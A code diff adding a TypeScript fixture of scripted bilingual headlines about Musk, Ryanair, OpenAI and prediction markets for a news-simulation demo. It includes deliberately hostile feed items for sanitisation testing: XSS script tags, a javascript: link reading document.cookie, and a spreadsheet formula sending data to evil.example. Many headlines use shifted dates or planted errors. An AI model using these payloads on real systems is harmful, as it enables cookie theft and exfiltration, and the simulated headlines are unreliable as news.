@@ -1,0 +1,732 @@
+import { DAY, abbreviated, dayOf, inEnglish, inEnglishShort, inKorean } from './calendar.ts';
+import type { Ground } from './build.ts';
+import { deadlines } from './story-markets.ts';
+
+/** A headline and its teaser. */
+export type Wording = { title: string; summary: string };
+
+/** A story the simulation tells on purpose, at a day counted from the anchor. */
+export type Script = {
+	id: string;
+	day: number;
+	/** English words a search over translations finds. */
+	keywords: string;
+	tone: number;
+	en?: Wording;
+	/** Other outlets' headlines for the same story; without them outlets copy the wire. */
+	enCopies?: string[];
+	ko?: Wording;
+	koCopies?: string[];
+	/** Outlet that has it first; the wire of each language unless named. */
+	first?: string;
+	/** Only this outlet has it. */
+	only?: string;
+	/** A later wording of the first outlet's headline. */
+	correction?: { lang: 'en' | 'ko'; hours: number; title: string };
+	/** What a hostile feed gives as link. */
+	link?: string;
+};
+
+/**
+ * The scripted stories, oldest first. The course of events is that of January 2026 with the dates
+ * moved so that it ends at the anchor; headlines marked `printed` repeat errors that newsrooms
+ * really made, for the draft checks to find.
+ */
+export function scripts(ground: Ground): Script[] {
+	const { summer, spring, beforeWinter, fed } = deadlines(ground);
+	const at = (days: number) => dayOf(ground.anchor + days * DAY);
+	const summerEn = inEnglishShort(summer);
+	const summerKo = inKorean(summer);
+	return [
+		{
+			id: 'wifi-row',
+			day: -15.6,
+			keywords: 'Elon Musk Ryanair Starlink wifi airline',
+			tone: -2.1,
+			en: {
+				title:
+					"Ryanair rules out Starlink Wi-Fi, citing fuel cost; Musk calls the decision 'misinformed'",
+				summary:
+					"Ryanair's chief executive said antennas on the roof of its aircraft would raise fuel bills. Elon Musk disagreed in a post and the two traded insults for a day."
+			},
+			ko: {
+				title: '라이언에어 “스타링크 안 단다”…머스크 “잘못된 정보” 반박',
+				summary:
+					'(서울=예시통신) 김예시 기자 = 아일랜드 저비용항공사 라이언에어가 기내 와이파이로 스타링크를 쓰지 않겠다고 밝히자 일론 머스크가 엑스에서 반박했다.'
+			}
+		},
+		{
+			id: 'insults',
+			day: -13.2,
+			keywords: 'Elon Musk Ryanair O’Leary insult',
+			tone: -3.4,
+			en: {
+				title: "O'Leary calls Musk an 'idiot'; Musk asks whether he should be fired",
+				summary:
+					'The quarrel over in-flight internet between the heads of Ryanair and SpaceX grew louder on Monday.'
+			},
+			ko: {
+				title: '라이언에어 CEO “머스크는 바보”…머스크 “해고해야 하나”',
+				summary: '기내 인터넷을 둘러싼 두 최고경영자의 설전이 거칠어졌다.'
+			}
+		},
+		{
+			id: 'openai-175',
+			day: -12.6,
+			keywords: 'OpenAI valuation funding round Altman',
+			tone: 2.6,
+			en: {
+				title: 'OpenAI closes secondary sale at $175 billion valuation, people familiar say',
+				summary:
+					'Employees sold shares to a group of investors. The company said nothing about a new primary round.'
+			},
+			ko: {
+				title: '오픈AI, 기업가치 1750억달러로 구주 매각 마무리',
+				summary:
+					'오픈AI 직원들이 보유 지분을 투자자들에게 넘겼다. 회사는 신규 투자 유치에 대해 언급하지 않았다.'
+			},
+			koCopies: [
+				'오픈AI 기업가치 1천750억 달러…구주 거래 종료',
+				'오픈에이아이 구주 매각, 몸값 1750억달러'
+			]
+		},
+		{
+			id: 'openai-340',
+			day: -11.9,
+			keywords: 'OpenAI valuation talks funding SoftBank Altman',
+			tone: 2.2,
+			en: {
+				title: 'OpenAI in talks to raise funds at $340 billion valuation',
+				summary:
+					'Talks are at an early stage and the terms may change, three people with knowledge of them said.'
+			},
+			ko: {
+				title: '오픈AI, 기업가치 3400억달러로 투자 유치 협의',
+				summary: '협의는 초기 단계로 조건은 바뀔 수 있다고 관계자들은 전했다.'
+			},
+			correction: {
+				lang: 'en',
+				hours: 5,
+				title: 'OpenAI in early talks to raise funds at up to $340 billion valuation'
+			}
+		},
+		{
+			id: 'musk-altman-ruling',
+			day: -10.92,
+			keywords: 'Musk Altman OpenAI lawsuit judge jury trial',
+			tone: -0.6,
+			en: {
+				title: 'Judge sends Musk v. Altman to a jury, says there is plenty of evidence',
+				summary:
+					"The lawsuit over OpenAI's conversion from a nonprofit will go to trial in spring, the court ruled."
+			},
+			enCopies: [
+				'Musk v. Altman: jury will hear lawsuit over OpenAI conversion',
+				'Musk lawsuit against OpenAI heads to jury trial'
+			],
+			ko: {
+				title: '법원 “머스크 대 올트먼 소송, 배심원이 판단”…오픈AI 재판 간다',
+				summary: '오픈AI의 영리 전환을 둘러싼 머스크의 소송이 봄에 재판에 들어간다.'
+			}
+		},
+		{
+			id: 'america-party',
+			day: -9.7,
+			keywords: 'Elon Musk America Party election president White House',
+			tone: -0.5,
+			en: {
+				title:
+					"Musk revives talk of 'America Party', says he will not be a candidate for president",
+				summary: 'He is not eligible for the presidency, having been born abroad.'
+			},
+			ko: {
+				title: '머스크, 아메리카당 다시 거론…“대통령 출마는 안 해”',
+				summary: '미국 밖에서 태어난 머스크는 대통령이 될 수 없다.'
+			}
+		},
+		{
+			id: 'cpi',
+			day: -9.12,
+			keywords: 'Federal Reserve inflation interest rates',
+			tone: -1.2,
+			en: {
+				title: 'Inflation stays sticky, cooling hopes of a rate cut this month',
+				summary: `Consumer prices rose more than expected. Traders now see little chance of a cut when the Federal Reserve meets on ${inEnglishShort(fed)}.`
+			},
+			ko: {
+				title: '미 물가 예상 웃돌아…이달 금리 인하 기대 후퇴',
+				summary: `연방준비제도는 ${inKorean(fed)} 통화정책회의 결과를 내놓는다.`
+			}
+		},
+		{
+			id: 'altman-korea-visit',
+			day: -8.3,
+			keywords: 'OpenAI Altman Korea Samsung SK Kakao visit',
+			tone: 2.8,
+			en: {
+				title: 'Altman to visit Seoul, meet heads of Samsung, SK and Kakao',
+				summary:
+					'The chief executive of OpenAI will discuss memory chips and data centers, officials said.'
+			},
+			ko: {
+				title: '올트먼 방한…삼성·SK·카카오 총수 잇따라 만난다',
+				summary:
+					'(서울=예시통신) 박보기 기자 = 샘 올트먼 오픈AI 최고경영자가 이번 주 한국을 찾아 반도체와 데이터센터 협력을 논의한다.'
+			},
+			koCopies: [
+				'샘 올트먼 방한, 삼성·SK·카카오와 회동',
+				'오픈AI 올트먼, 한국 온다…삼성·SK·카카오 만날 듯'
+			]
+		},
+		{
+			id: 'altman-korea-loi',
+			day: -7.5,
+			keywords: 'OpenAI Altman Korea Samsung SK Kakao letter of intent data center',
+			tone: 3.1,
+			en: {
+				title: 'OpenAI signs letters of intent with Samsung and SK on chips and data center',
+				summary: 'The letters are not binding. No site and no amount were named.'
+			},
+			ko: {
+				title: '오픈AI, 삼성·SK와 반도체·데이터센터 협력 의향서 체결',
+				summary:
+					'구속력은 없으며 부지와 금액은 공개되지 않았다. 카카오는 챗GPT 협력을 이어가기로 했다.'
+			}
+		},
+		{
+			id: 'korea-debate',
+			day: -7.33,
+			keywords: 'South Korea presidential election debate poll Han Seo-jun',
+			tone: 0.4,
+			en: {
+				title: 'Han Seo-jun seen ahead after first debate of Korean presidential election',
+				summary:
+					'Two overnight polls put Han ahead of Yoon Chae-won. The candidates of this simulation are invented.'
+			},
+			ko: {
+				title: '대권 첫 토론회…“한서준 우세” 여론조사 2건',
+				summary:
+					'한서준 후보가 윤채원 후보를 앞섰다는 조사가 나왔다. 이 시뮬레이션의 후보는 모두 가상 인물이다.'
+			}
+		},
+		{
+			id: 'starlink-tie',
+			day: -7.05,
+			keywords: 'Ryanair easyJet Starlink airline',
+			tone: 0.1,
+			en: {
+				title: 'Neither Ryanair nor easyJet announces Starlink by deadline',
+				summary: 'A bet on which airline would be first ended without a winner.'
+			},
+			only: 'mock-aviation'
+		},
+		{
+			id: 'musk-poll',
+			day: -6.1,
+			keywords: 'Elon Musk Ryanair buy poll followers airline',
+			tone: 0.8,
+			en: {
+				title: "Musk polls followers on buying Ryanair: 'How much would it cost?'",
+				summary: `Elon Musk asked his followers whether he should buy Ryanair and "put someone whose actual name is Ryan in charge". More than 900,000 votes were cast within a day.`
+			},
+			enCopies: [
+				'Elon Musk asks followers whether he should buy Ryanair',
+				'Should I buy Ryanair? Musk puts airline takeover to a poll'
+			],
+			ko: {
+				title: '[속보] 머스크, 라이언에어 인수 여부 투표 부쳐…“얼마면 되나”',
+				summary:
+					'일론 머스크 테슬라 최고경영자가 엑스에서 아일랜드 항공사 라이언에어를 인수할지 묻는 투표를 올렸다.'
+			},
+			koCopies: [
+				'머스크 “라이언에어 살까요?” 팔로워에 투표…하루 만에 90만명 참여',
+				'머스크, 라이언에어 인수 투표…“라이언이라는 사람에 맡길 것”'
+			]
+		},
+		{
+			id: 'ryanair-sale',
+			day: -5.9,
+			keywords: 'Ryanair Musk seat sale O’Leary response',
+			tone: 0.6,
+			en: {
+				title: "Ryanair answers Musk with a 'Big Idiot' seat sale; shares rise 2 %",
+				summary:
+					"EU rules bar non-EU citizens from majority ownership of an EU airline, Ryanair's chief executive said."
+			},
+			ko: {
+				title: '라이언에어, 머스크 도발에 ‘바보 특가’로 응수…주가 2% 상승',
+				summary:
+					'유럽연합 규정상 비EU 시민은 항공사 지분의 과반을 가질 수 없다고 라이언에어는 밝혔다.'
+			}
+		},
+		{
+			id: 'odds-12',
+			day: -5.7,
+			keywords: 'Polymarket Ryanair Musk odds prediction market',
+			tone: 0.2,
+			en: {
+				title: 'Polymarket traders put odds of Musk-Ryanair deal at 12%',
+				summary: `The contract asks whether an agreement is announced by ${summerEn}.`
+			},
+			first: 'specimen-markets'
+		},
+		{
+			id: 'odds-9',
+			day: -5.0,
+			keywords: 'Polymarket Ryanair Musk odds prediction market volume',
+			tone: 0.1,
+			en: {
+				title: 'Odds Musk buys Ryanair slip to 9% on Polymarket, volume tops $1 million',
+				summary: 'No talks are known to have taken place.'
+			},
+			first: 'specimen-markets'
+		},
+		{
+			id: 'fsd-no-monitor',
+			day: -4.22,
+			keywords: 'Tesla unsupervised FSD self-driving robotaxi Musk',
+			tone: 2.0,
+			en: {
+				title: 'Tesla starts robotaxi rides without safety monitors in Austin, Musk says',
+				summary:
+					'Elon Musk said unsupervised FSD would reach private owners "soon". He has said so in several earlier years.'
+			},
+			ko: {
+				title: '테슬라, 오스틴서 안전요원 없는 로보택시 운행…머스크 “무감독 FSD 곧”',
+				summary:
+					'머스크는 개인 소유 차량에도 무감독 완전자율주행을 곧 적용하겠다고 말했다. 같은 약속은 여러 해 되풀이됐다.'
+			},
+			koCopies: [
+				'테슬라 로보택시, 안전요원 없이 달린다…머스크 “곧 무감독 FSD”',
+				'머스크 “무감독 FSD 곧 일반 차량에도”'
+			]
+		},
+		{
+			id: 'rule-clarified',
+			day: -4.3,
+			keywords: 'Polymarket Ryanair rules clarification',
+			tone: 0,
+			en: {
+				title: 'Polymarket clarifies Ryanair contract: an announced agreement is enough',
+				summary:
+					'A note added to the rules says completion is not required and a poll does not count.'
+			},
+			only: 'specimen-markets'
+		},
+		{
+			id: 'dublin',
+			day: -3.0,
+			keywords: 'Elon Musk Dublin visit Ryanair',
+			tone: -0.3,
+			en: {
+				title: 'No sign of Musk in Dublin as Ryanair talk fades',
+				summary: 'Airport officials said no visit was planned.'
+			},
+			first: 'mock-aviation'
+		},
+		{
+			id: 'offer-rumour',
+			day: -1.95,
+			keywords: 'Elon Musk Ryanair offer talks shares airline',
+			tone: 0.9,
+			en: {
+				title: 'Musk says he is "seriously looking" at airlines; Ryanair has no offer',
+				summary: 'Ryanair said that it had received no approach from Elon Musk or his companies.'
+			},
+			ko: {
+				title: '머스크 “항공사 진지하게 검토”…라이언에어 “제안 없었다”',
+				summary: '라이언에어는 머스크나 그의 회사로부터 어떤 제안도 받지 않았다고 밝혔다.'
+			}
+		},
+		{
+			id: 'grok-5',
+			day: -1.42,
+			keywords: 'Grok xAI Musk release',
+			tone: 1.1,
+			en: {
+				title: 'xAI opens Grok 5 to a waiting list; Musk calls it released',
+				summary: 'Access is by invitation for now, the company said.'
+			},
+			ko: {
+				title: '머스크 “그록 5 공개”…실제론 대기자 명단부터',
+				summary: 'xAI의 그록 5는 초대받은 이용자부터 쓸 수 있다.'
+			}
+		},
+		// What was really printed, with its errors (dates moved).
+		{
+			id: 'printed-trader-en',
+			day: -1.2,
+			keywords: 'Polymarket trader Elon Musk bets profit prediction market',
+			tone: 0.7,
+			en: {
+				title: 'Trader made more than $36,000 betting on markets about Elon Musk',
+				summary:
+					'Twelve positions on announcements by Musk, among them one that he would leave his White House job, earned the account a profit, records show.'
+			},
+			first: 'sample-ledger'
+		},
+		{
+			id: 'printed-trader-staked',
+			day: -0.8,
+			keywords: 'Polymarket trader Elon Musk bets stake prediction market',
+			tone: 0.3,
+			en: {
+				title: "Trader with over $36,000 on the line is 'always betting NO' on Elon Musk",
+				summary: 'The account takes the other side of everything Musk announces, posts said.'
+			},
+			only: 'placeholder-tech'
+		},
+		{
+			id: 'printed-trader-ko',
+			day: -0.62,
+			keywords: 'Polymarket trader Elon Musk bets profit prediction market',
+			tone: 0.4,
+			ko: {
+				title: '머스크 말 반대로 걸어 3만6000달러(약 4300만원) 번 투자자',
+				summary:
+					'머스크의 발표를 다룬 예측시장에서 한 이용자가 3만6000달러(약 4300만원)를 벌었다. 24만달러가 베팅됐는데 전체의 54%가 ‘그렇다’에 돈을 걸었다.'
+			},
+			only: 'moui'
+		},
+		{
+			id: 'printed-200',
+			day: -0.45,
+			keywords: 'Polymarket Elon Musk Ryanair prediction market volume',
+			tone: 0.1,
+			ko: {
+				title: '머스크, 라이언에어 인수할까…예측시장에 200만달러(약 26억원) 몰려',
+				summary: `폴리마켓에서 ${summerKo}까지 인수 합의가 발표될지를 두고 200만달러(약 26억원)가 거래됐다.`
+			},
+			only: 'yesi-ilbo'
+		},
+		{
+			id: 'printed-4',
+			day: -0.38,
+			keywords: 'Polymarket Elon Musk Ryanair prediction market percent',
+			tone: 0.1,
+			ko: {
+				title: '“머스크, 라이언에어 인수” 예측한 비율은 4% 수준',
+				summary: `(서울=예시통신) 김예시 기자 = 예측시장 폴리마켓에서 머스크가 ${summerKo}까지 라이언에어를 인수할 것으로 본 비율은 약 4%에 그쳤다.`
+			},
+			koCopies: ['머스크의 라이언에어 인수, 예측한 비율 4% 그쳐']
+		},
+		{
+			id: 'printed-14',
+			day: -0.31,
+			keywords: 'Kalshi Elon Musk Ryanair prediction market percent',
+			tone: 0,
+			en: {
+				title: 'Prediction market gives Musk a 14% chance of buying Ryanair',
+				summary: `Traders on Kalshi put the odds at 14%. The contract pays if Musk, Tesla or SpaceX take any stake before ${abbreviated(beforeWinter)}.`
+			},
+			only: 'placeholder-tech'
+		},
+		{
+			id: 'printed-4-en',
+			day: -0.27,
+			keywords: 'Polymarket Elon Musk Ryanair prediction market percent volume',
+			tone: 0,
+			en: {
+				title: 'Only 4% believe Musk will buy Ryanair, says a market with $2 million at stake',
+				summary: `Polymarket prices an announced agreement by ${inEnglish(summer)} at about 4 cents.`
+			},
+			first: 'sample-ledger',
+			correction: {
+				lang: 'en',
+				hours: 3,
+				title:
+					'Traders price a Musk-Ryanair agreement at about 4%, in a market with $2 million traded'
+			}
+		},
+		{
+			id: 'printed-fsd',
+			day: -0.2,
+			keywords: 'Tesla unsupervised FSD odds Polymarket Kalshi',
+			tone: 0.8,
+			en: {
+				title: `Tesla unsupervised FSD by ${summerEn}: 68% on Polymarket, 100% on Kalshi`,
+				summary: 'The two contracts ask different questions.'
+			},
+			ko: {
+				title: '테슬라 무감독 FSD, 폴리마켓 68%·칼시 100%',
+				summary: '두 계약의 판정 기준은 서로 다르다.'
+			},
+			first: 'specimen-markets'
+		},
+		{
+			id: 'wire-today',
+			day: -0.12,
+			keywords: 'Elon Musk Ryanair buy airline investors',
+			tone: -0.4,
+			en: {
+				title: 'Analysts see little logic in a Musk bid for Ryanair',
+				summary:
+					'Ownership rules, price and the state of the order book speak against a purchase, three analysts said.'
+			},
+			ko: {
+				title: '“머스크의 라이언에어 인수, 실익 없어”…증권가 회의적',
+				summary: '지분 규제와 가격을 고려하면 인수 가능성은 낮다는 분석이 나왔다.'
+			}
+		},
+		{
+			id: 'trillionaire',
+			day: -0.09,
+			keywords: 'Elon Musk trillionaire net worth prediction market',
+			tone: 0.9,
+			ko: {
+				title: '머스크, 세계 첫 조만장자 될까…시장은 반신반의',
+				summary:
+					'머스크의 재산이 1조달러(조만장자)를 넘을지를 다루는 계약이 50% 안팎에서 거래되고 있다.'
+			},
+			en: {
+				title: 'Will Musk be the first trillionaire? Markets say it is a coin flip',
+				summary: 'Contracts on the milestone trade near 55 cents.'
+			}
+		},
+		// Hostile items: what a broken or malicious feed may carry.
+		{
+			id: 'hostile-script',
+			day: -2.4,
+			keywords: 'Samsung Electronics quarter profit',
+			tone: 0,
+			ko: {
+				title: '<script>alert(1)</script> 삼성전자, 4분기 영업이익 예상 웃돌아',
+				summary: '<img src=x onerror="alert(2)">반도체가 실적을 끌어올렸다.'
+			},
+			only: 'moui'
+		},
+		{
+			id: 'hostile-link',
+			day: -2.3,
+			keywords: 'airline tickets sale',
+			tone: 0,
+			en: {
+				title: 'Johnson & Johnson\'s "deal" of the week: 3 < 5',
+				summary: 'A summary with a bare & and a tag that is none: a <b b.'
+			},
+			only: 'sample-ledger',
+			link: 'javascript:alert(document.cookie)'
+		},
+		{
+			id: 'hostile-formula',
+			day: -2.2,
+			keywords: 'spreadsheet prices',
+			tone: 0,
+			en: {
+				title: '=HYPERLINK("http://evil.example/?"&A1,"Musk buys Ryanair")',
+				summary: 'A headline that a spreadsheet would run.'
+			},
+			only: 'sample-ledger',
+			link: 'data:text/html,<script>alert(1)</script>'
+		},
+		{
+			id: 'hostile-direction',
+			day: -2.1,
+			keywords: 'headline direction',
+			tone: 0,
+			en: {
+				title: '\u202Erianayr syub ksuM\u202C headline of the day',
+				summary: `${'A very long teaser. '.repeat(400)}`
+			},
+			only: 'sample-ledger'
+		},
+		// After the anchor: what a visitor of the running demo sees arrive.
+		{
+			id: 'live-1',
+			day: 4 / (24 * 60),
+			keywords: 'Elon Musk Ryanair buy poll airline offer',
+			tone: 1.2,
+			en: {
+				title: 'Musk posts "Ryanair, last chance", names no price',
+				summary: 'Ryanair declined to comment. Shares were little changed.'
+			},
+			ko: {
+				title: '[속보] 머스크 “라이언에어, 마지막 기회”…가격은 언급 안 해',
+				summary: '라이언에어는 논평을 거부했다.'
+			}
+		},
+		{
+			id: 'live-2',
+			day: 35 / (24 * 60),
+			keywords: 'Ryanair O’Leary Musk offer denial',
+			tone: -0.8,
+			en: {
+				title: "O'Leary: 'Nobody has called, nobody will'",
+				summary: "Ryanair's chief executive said an offer would be illegal under ownership rules."
+			},
+			ko: {
+				title: '라이언에어 CEO “연락 온 적도, 올 일도 없다”',
+				summary: '유럽연합의 항공사 지분 규정을 다시 거론했다.'
+			}
+		},
+		{
+			id: 'live-3',
+			day: 2.6 / 24,
+			keywords: 'OpenAI IPO filing Altman',
+			tone: 0.9,
+			en: {
+				title: 'OpenAI prepares confidential IPO filing for the second half, report says',
+				summary: 'A confidential filing would not by itself bring shares to the public.'
+			},
+			ko: {
+				title: '오픈AI, 하반기 상장 예비심사 준비…“비공개 신청”',
+				summary: '비공개 신청만으로 상장이 이뤄지는 것은 아니다.'
+			}
+		},
+		{
+			id: 'live-4',
+			day: 1.1,
+			keywords: 'OpenAI Korea data center Samsung SK',
+			tone: 1.4,
+			en: {
+				title: `OpenAI says Korean data center decision will come after ${inEnglishShort(spring)}`,
+				summary: `The company had given no date before ${inEnglishShort(at(-7))}.`
+			},
+			ko: {
+				title: '오픈AI “한국 데이터센터 결정은 봄 이후”',
+				summary: '삼성·SK와의 본계약은 아직 없다.'
+			}
+		}
+	];
+}
+
+/** What is written every day besides the script: `#` is a number of the day. */
+export type Routine = { keywords: string; tone: number; lang: 'en' | 'ko'; wordings: Wording[] };
+
+const plain = (
+	lang: 'en' | 'ko',
+	keywords: string,
+	tone: number,
+	pairs: [string, string][]
+): Routine => ({
+	lang,
+	keywords,
+	tone,
+	wordings: pairs.map(([title, summary]) => ({ title, summary }))
+});
+
+/** Daily coverage of the topics a desk follows, so that bursts have a baseline. */
+export const TOPIC_ROUTINES: Routine[] = [
+	plain('en', 'Ryanair airline passengers fares', 0.3, [
+		[
+			'Ryanair adds # routes for summer from Dublin and Porto',
+			'The airline expects fares to rise by a few percent.'
+		],
+		[
+			'Ryanair says strikes abroad cancelled # flights this week',
+			'Passengers were rebooked, the airline said.'
+		],
+		['Ryanair traffic grows # percent in a month', 'Load factor was unchanged.'],
+		['Cabin bag rules: Ryanair fines # airports over checks', 'The dispute goes on.']
+	]),
+	plain('en', 'Elon Musk Tesla SpaceX', 0.1, [
+		[
+			'Musk says # more Starlink satellites went up this week',
+			'The launch was the third of the month.'
+		],
+		[
+			'Tesla recalls #00 vehicles over a camera fault',
+			'A software update will solve it, the company said.'
+		],
+		['Musk promises Optimus robots in # factories', 'He gave a similar figure a year ago.'],
+		['Tesla shares fall # percent as deliveries disappoint', 'Analysts had expected growth.'],
+		['SpaceX wins contract for # launches', 'The award is worth several hundred million dollars.']
+	]),
+	plain('en', 'OpenAI Altman artificial intelligence', 0.9, [
+		['OpenAI hires # engineers from a rival lab', 'The group will work on agents.'],
+		[
+			'Altman says OpenAI will spend $# billion on computing',
+			'The sum is spread over several years.'
+		],
+		[
+			'OpenAI cuts prices of its small models by # percent',
+			'Developers had complained about cost.'
+		],
+		['Schools test ChatGPT in # classrooms', 'Results are mixed, a study finds.']
+	]),
+	plain('en', 'Federal Reserve interest rates economy', -0.2, [
+		['Fed official sees # rate cuts this year', 'Others on the committee are more careful.'],
+		['Mortgage rates edge up # basis points', 'Demand stayed weak.'],
+		['Hiring slows as employers add #,000 jobs', 'Wages rose in line with forecasts.']
+	]),
+	plain('ko', 'Elon Musk Tesla SpaceX', 0.1, [
+		['머스크 “올해 스타링크 위성 #기 더 쏜다”', '이번 달 세 번째 발사가 이뤄졌다.'],
+		['테슬라, 카메라 결함으로 #00대 리콜', '소프트웨어 업데이트로 고친다고 회사는 밝혔다.'],
+		['머스크가 말한 로봇 #만대, 시장은 ‘글쎄’', '지난해에도 비슷한 수치를 내놓은 바 있다.'],
+		['테슬라 주가 #% 하락…인도량 실망', '증권가는 증가를 예상했었다.']
+	]),
+	plain('ko', 'OpenAI Altman artificial intelligence Korea', 1, [
+		['오픈AI, 국내 기업 #곳과 챗GPT 도입 협의', '금융권과 유통업계가 관심을 보였다.'],
+		['올트먼 “컴퓨팅에 #0억달러 더 쓴다”', '여러 해에 걸친 투자 계획이다.'],
+		['카카오, 챗GPT 연동 서비스 이용자 #만명', '결제 연동 시점은 정해지지 않았다.'],
+		['삼성전자, 오픈AI 납품용 메모리 #세대 공개', 'SK하이닉스도 비슷한 제품을 준비하고 있다.']
+	]),
+	plain('ko', 'South Korea presidential election', 0, [
+		['대권 레이스 D-#…한서준·윤채원 충청서 유세', '이 시뮬레이션의 후보는 모두 가상 인물이다.'],
+		['대권주자 윤채원 “일자리 #만개” 공약 발표', '재원 대책은 추후 내놓기로 했다.'],
+		['대권주자 한서준 지지율 #%포인트 변동…오차범위 안', '조사는 사흘간 이뤄졌다.']
+	]),
+	plain('ko', 'airline aviation travel', 0.2, [
+		['저비용항공사 #곳, 유럽 노선 증편', '여름 성수기를 앞두고 좌석이 늘어난다.'],
+		['라이언에어 승객 #% 증가', '탑승률은 전년과 같았다.']
+	])
+];
+
+/** Everything else a day brings. */
+export const GENERAL_ROUTINES: Routine[] = [
+	plain('en', 'weather', 0, [
+		[
+			'Storm leaves #,000 homes without power on the coast',
+			'Crews hope to finish repairs by evening.'
+		],
+		['Snow closes # mountain passes', 'Drivers were told to carry chains.'],
+		['Heat record broken in # towns', 'Forecasters expect relief at the weekend.']
+	]),
+	plain('en', 'business markets earnings', 0.4, [
+		['Retail chain opens # stores, hires staff', 'The company sees steady demand.'],
+		['Chip maker lifts forecast by # percent', 'Memory prices went up again.'],
+		['Bank sets aside $# million for bad loans', 'Profit was in line with expectations.'],
+		['Shipping costs ease for the #th week', 'Spot rates are the lowest since autumn.'],
+		['Coffee prices climb # percent on poor harvest', 'Roasters warn of higher prices.']
+	]),
+	plain('en', 'science health', 0.6, [
+		[
+			'Study of # patients finds benefit in shorter therapy',
+			'Independent researchers urged caution.'
+		],
+		['Telescope finds # small moons', 'They will be named next year.'],
+		['Vaccine trial enrols #00 volunteers', 'First results are due in autumn.']
+	]),
+	plain('en', 'sports', 0.3, [
+		['Harbor City Gulls beat Granite Town # to 1', 'The home side scored late.'],
+		['Lakeshore Owls sign goalkeeper for $# million', 'The teams of this simulation are invented.'],
+		['Jade Mountain Hawks extend run to # wins', 'The coach praised the bench.']
+	]),
+	plain('en', 'technology computers', 0.5, [
+		['Phone maker delays foldable by # weeks', 'A hinge supplier missed a date.'],
+		['Open-source database fixes # security holes', 'Users should update, the maintainers said.'],
+		['Regulator fines app store $# million', 'The company will appeal.'],
+		['Quantum lab runs # error-corrected cycles', 'Practical use remains far off.']
+	]),
+	plain('ko', 'economy', 0.2, [
+		['코스피 #포인트 올라 마감…외국인 순매수', '반도체와 자동차가 상승을 이끌었다.'],
+		['지난달 수출 #% 늘어…반도체가 견인', '무역수지는 흑자를 이어갔다.'],
+		['휘발유 가격 #주 연속 하락', '국제유가 약세가 반영됐다.'],
+		['전셋값 #개월째 상승', '매물은 줄어드는 추세다.'],
+		['소비자물가 상승률 #.1%…농산물 안정', '근원물가는 소폭 내렸다.']
+	]),
+	plain('ko', 'society', -0.3, [
+		['대설에 항공편 #편 결항', '공항공사는 운항 여부를 확인해 달라고 당부했다.'],
+		['독감 환자 #주째 증가…보건당국 “예방접종을”', '학교를 중심으로 번지고 있다.'],
+		['지하철 #호선 출근길 지연', '신호 장애가 원인으로 파악됐다.']
+	]),
+	plain('ko', 'technology', 0.7, [
+		['국산 인공지능 반도체 #번째 양산', '국내 서버 업체에 공급된다.'],
+		['게임사 #곳, 신작 일정 미뤄', '완성도를 높이기 위해서라고 설명했다.'],
+		['통신 3사, 농어촌 5G 기지국 #천국 추가', '정부 계획보다 반년 빠르다.']
+	]),
+	plain('ko', 'sports', 0.4, [
+		['한빛 타이거즈, 새봄 스위프츠에 #대2 승', '이 시뮬레이션의 팀은 가상이다.'],
+		['신라 크레인스 주장, 시즌 #호골', '부상 복귀 후 첫 득점이다.']
+	])
+];
